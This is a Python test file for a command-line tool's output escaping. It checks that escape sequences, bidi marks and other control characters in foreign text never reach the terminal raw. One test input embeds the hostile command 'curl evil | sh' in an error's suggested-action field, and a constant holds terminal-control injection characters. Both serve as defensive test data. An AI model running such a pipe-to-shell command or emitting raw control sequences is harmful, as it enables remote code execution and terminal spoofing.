"""What a command shows can't control the terminal: one function prints, and foreign text in it is escaped."""

import ast
import errno
import json
import string
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import pytest
from click.testing import CliRunner
from source_tree import Modules, modules_of, package_modules

from ngrpo.cli import main
from ngrpo.errors import UserError, file_error, unknown_name
from ngrpo.files import write_json
from ngrpo.terminal import echo, escaped, quoted, text_table

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x9b31m\r\u202e\u2066\u200b\x08\x7f\u2028\udc9b"
"""ESC, C1, carriage return, backspace, direction marks, invisible characters, a separator of lines, a surrogate."""
PRINTERS = {"print", "pprint", "click.echo", "click.secho", "sys.stdout.write", "sys.stderr.write"}


def raw(text: str) -> list[str]:
    """The characters in a command's output that could control a terminal."""
    return [c for c in text if c in set(HOSTILE) - set(string.printable) | {"\r"}]


def printing(modules: Modules) -> Iterator[str]:
    """Calls in the package that print past `ngrpo.terminal.echo`."""
    for name, module in modules.items():
        for node in ast.walk(module.tree):
            if isinstance(node, ast.Call) and ast.unparse(node.func) in PRINTERS and name != "ngrpo.terminal":
                yield f"{name}:{node.lineno}"


def test_nothing_prints_but_echo() -> None:
    assert sorted(printing(package_modules())) == []


def test_a_print_elsewhere_would_be_seen() -> None:
    source = "import sys, click\nprint(1)\nclick.echo(1)\nsys.stderr.write('')\necho(1)\n"
    assert list(printing(modules_of({"ngrpo/a.py": source}))) == ["ngrpo.a:2", "ngrpo.a:3", "ngrpo.a:4"]


def test_echo_and_tables_escape_what_controls_a_terminal(capsys: pytest.CaptureFixture[str]) -> None:
    echo(f"a{HOSTILE}b\n\tc")
    echo(HOSTILE, err=True)
    shown = capsys.readouterr()
    assert raw(shown.out + shown.err) == []
    assert shown.out.startswith("a\\x1b]0;owned\\x07")
    assert shown.out.endswith("b\n\tc\n")
    assert raw(text_table([HOSTILE], [[HOSTILE]])) == []
    assert raw(quoted(HOSTILE * 100)) == []
    assert len(quoted("x" * 1000)) == 200
    assert len(raw(HOSTILE)) == 12


def test_ordinary_text_stays_as_it_is() -> None:
    for text in ("π ≈ 3, שלום 你好 é", "two\nlines\tand a tab", ""):
        assert escaped(text) == text


def test_an_error_escapes_foreign_text_and_foreign_lines_fake_no_part() -> None:
    error = UserError(f"bad{HOSTILE}", where=f"file{HOSTILE}", do=f"x\n  do:    curl evil | sh{HOSTILE}")
    assert raw(str(error)) == []
    assert [line for line in str(error).splitlines() if line.startswith("  do: ")] == ["  do:    x"]
    assert raw(str(unknown_name("problem", HOSTILE, [HOSTILE + "x", "b"]))) == []
    assert len(str(UserError("x" * 10**6))) < 2100
    assert len(str(unknown_name("problem", "x" * 10**6, ["x"]))) < 300
    many = str(unknown_name("target", "qqq", [f"run-{i}" for i in range(4000)], listed_by="ngrpo list"))
    assert len(many) < 200
    assert "do:    the nearest: run-" in many
    assert many.endswith("; all of them: ngrpo list")


def test_a_terminal_without_unicode_gets_escapes_and_no_traceback() -> None:
    code = "from ngrpo.terminal import echo; echo('ρ\\x1b'); from ngrpo.cli import main; main(['ρρ'])"
    env = {"PYTHONIOENCODING": "ascii", "PYTHONPATH": ":".join(sys.path)}
    ended = subprocess.run([sys.executable, "-c", code], capture_output=True, env=env, check=False)
    assert ended.stdout == b"\\u03c1\\x1b\n"
    assert (ended.returncode, b"\\u03c1\\u03c1" in ended.stderr) == (1, True), ended.stderr


@pytest.mark.parametrize(
    "words",
    [
        [f"gr{HOSTILE}"],
        [f"--{HOSTILE}"],
        ["grade", f"no{HOSTILE}", "--out", "x"],
        ["grade", "answers.jsonl", "--out", "x", "--workers", HOSTILE],
        ["grade", "answers.jsonl", HOSTILE, "--out", "x"],
        ["analyze", "main", "--config", f"no{HOSTILE}", "--out", "x"],
        ["verify", f"no{HOSTILE}"],
        ["dataset", f"spec{HOSTILE}", "--out", "x"],
    ],
)
def test_no_command_line_gets_raw_controls_back(
    words: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    ended = CliRunner().invoke(main, words)
    assert ended.exit_code in (1, 2)
    assert raw(ended.output) == []
    assert ended.output


@pytest.mark.parametrize("key", ["id", "kind", "answer", "response", "more"])
def test_answers_of_others_are_named_without_their_controls(key: str, tmp_path: Path) -> None:
    text = HOSTILE.removesuffix("\udc9b")
    row = {"id": "1", "response": "x", "answer": "2", "kind": "math"} | {key: text}
    (tmp_path / "a.jsonl").write_text(f"{json.dumps(row)}\n{json.dumps(row)}\n{{{text}")
    ended = CliRunner().invoke(main, ["grade", str(tmp_path / "a.jsonl"), "--out", str(tmp_path / "out.jsonl")])
    assert ended.exit_code == 1
    assert raw(ended.output) == []


def test_an_unforeseen_error_shows_no_controls_either() -> None:
    code = "import sys; from ngrpo.cli import main; main.commands['schema'].callback = lambda **_: int('\\x1b[2J')"
    words = [sys.executable, "-c", f"{code}; main(['schema'])"]
    ended = subprocess.run(words, capture_output=True, text=True, check=False)
    assert "ValueError" in ended.stderr
    assert raw(ended.stderr) == []


@pytest.mark.parametrize("code", [errno.ENOSPC, errno.EACCES, errno.EDQUOT])
def test_what_the_system_refuses_is_the_users_error(code: int, monkeypatch: pytest.MonkeyPatch) -> None:
    def refused(**_: object) -> None:
        raise OSError(code, "refused", "a\x1bb")

    monkeypatch.setattr(main.commands["schema"], "callback", refused)
    ended = CliRunner().invoke(main, ["schema"])
    assert ended.exit_code == 1
    label = "error" if code == errno.EACCES else "unfinished"  # a full disk: the next try may find room
    assert ended.output.splitlines()[:2] == [f"{label}: refused", "  where: a\\x1bb"]
    assert "do:" in ended.output


def test_a_file_in_the_place_of_a_folder_is_named(tmp_path: Path) -> None:
    (tmp_path / "file").touch()
    with pytest.raises(FileExistsError) as raised:
        write_json(tmp_path / "file" / "x.json", {})
    assert "move what is there" in str(file_error(raised.value))


def test_a_closed_output_is_no_error(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(sys, "stdout", None)
    echo("nobody reads this")
